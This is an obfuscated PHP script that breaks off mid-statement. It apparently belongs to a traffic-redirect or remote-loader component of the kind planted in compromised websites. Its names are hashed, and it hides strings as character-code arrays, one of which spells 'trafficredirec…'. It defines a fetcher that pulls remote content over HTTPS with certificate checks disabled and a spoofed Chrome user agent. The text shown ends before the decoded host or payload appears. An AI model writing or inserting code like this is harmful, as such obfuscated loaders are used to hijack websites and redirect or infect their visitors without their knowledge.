<?php
$var_d4acf18edc8f9c88c9277ee0f041fcc6 = "11401609141076";
function fn_aa3fb05a15bfeb25dc278d4040ae23bf($var_ca82733491623ed9ca5b46aa68429a45){
    $var_ca82733491623ed9ca5b46aa68429a45 = 'https://'.$var_ca82733491623ed9ca5b46aa68429a45;
    if (function_exists('curl_version')) {
        $var_e8061cb59b46a4a2bda304354b950448 = curl_init();
        curl_setopt($var_e8061cb59b46a4a2bda304354b950448, CURLOPT_URL, $var_ca82733491623ed9ca5b46aa68429a45);
        curl_setopt($var_e8061cb59b46a4a2bda304354b950448, CURLOPT_RETURNTRANSFER, 1);
        curl_setopt($var_e8061cb59b46a4a2bda304354b950448, CURLOPT_FOLLOWLOCATION, 1);
        curl_setopt($var_e8061cb59b46a4a2bda304354b950448, CURLOPT_SSL_VERIFYPEER, 0);
        curl_setopt($var_e8061cb59b46a4a2bda304354b950448, CURLOPT_USERAGENT, implode('', array("Mozilla/5.0 ","(Windows NT 10.0; Win64; x64) ","AppleWebKit/537.36 ","(KHTML, like Gecko) ","Chrome/135.0.0.0 ","Safari/537.36")));
        curl_setopt($var_e8061cb59b46a4a2bda304354b950448, CURLOPT_TIMEOUT, 5);
        $var_0097b357800d476540b254cb19296657 = curl_exec($var_e8061cb59b46a4a2bda304354b950448);
        curl_close($var_e8061cb59b46a4a2bda304354b950448);
        return $var_0097b357800d476540b254cb19296657;
    }
    return file_get_contents($var_ca82733491623ed9ca5b46aa68429a45);
}

function fn_c6379b95787b21a4e8865133a1342423($var_74aef15de8fbeac1e69d160a5b969ae3) {
    $var_f7f0a97a1c1711a6c707740e6835973a = '';
    foreach ($var_74aef15de8fbeac1e69d160a5b969ae3 as $var_4cd4170770fe16c4784fe608111c1f21) {
        $var_f7f0a97a1c1711a6c707740e6835973a .= chr($var_4cd4170770fe16c4784fe608111c1f21);
    }
    return $var_f7f0a97a1c1711a6c707740e6835973a;
}

function fn_584c3af00a1385cce80d07a86490fb7d($var_7627930d2ca3d69d67459718ffea775a, $var_6a88bcd6a8cabcea8c76b29deccbf964) {
    $var_502a1bd95726343fb4c2b7a61aebefc2 = fn_c6379b95787b21a4e8865133a1342423([116, 114, 97, 102, 102, 105, 99, 114, 101, 100, 105, 114, 101, 99,
